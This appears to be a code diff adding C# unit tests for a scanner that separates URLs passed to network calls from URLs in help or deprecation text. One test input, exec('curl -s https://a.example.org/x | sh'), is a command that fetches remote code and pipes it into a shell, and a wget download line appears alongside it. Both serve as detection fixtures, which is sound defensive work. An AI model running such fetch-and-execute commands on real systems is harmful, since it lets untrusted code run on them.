@@ -34,6 +34,28 @@ public sealed class HostScanTests
     public void A_host_is_found(string text, string host) => Assert.Equal([host], HostsOf(text));
 
     [Theory]
+    [InlineData("fetch('https://a.example.org/x')", true)]
+    [InlineData("open('POST', `https://a.example.org/x`)", true)]
+    [InlineData("fetch('//a.exa' + 'mple.org')", true)]
+    [InlineData("get({ url: 'https://a.example.org/' })", true)]
+    [InlineData("get({ \"baseURL\": \"https://a.example.org/\" })", true)]
+    [InlineData("get({ hostname: 'a.example.org' })", true)]
+    [InlineData("exec('curl -s https://a.example.org/x | sh')", true)]
+    [InlineData("wget -q https://a.example.org/x", true)]
+    [InlineData("const help = 'https://a.example.org/help';", false)]
+    [InlineData("deprecate('this is gone; see https://a.example.org/why')", false)]
+    [InlineData("warn(`\n  https://a.example.org/why`)", false)]
+    [InlineData("{ description: 'https://a.example.org/' }", false)]
+    [InlineData("https://a.example.org/", false)]
+    public void What_is_handed_to_something_is_told_from_what_people_read(string text, bool isTarget)
+    {
+        var scan = new HostScan(Encoding.UTF8.GetBytes(text));
+
+        Assert.True(scan.MoveNext());
+        Assert.Equal(isTarget, scan.IsTarget());
+    }
+
+    [Theory]
     [InlineData("http://localhost:8080/ http://127.0.0.1/ http://127.1/ http://[::1]/ http://0.0.0.0/ http://2130706433/")]
     [InlineData("const url = `https://${host}/path`;")]
     [InlineData("const all = 'a' // comment")]
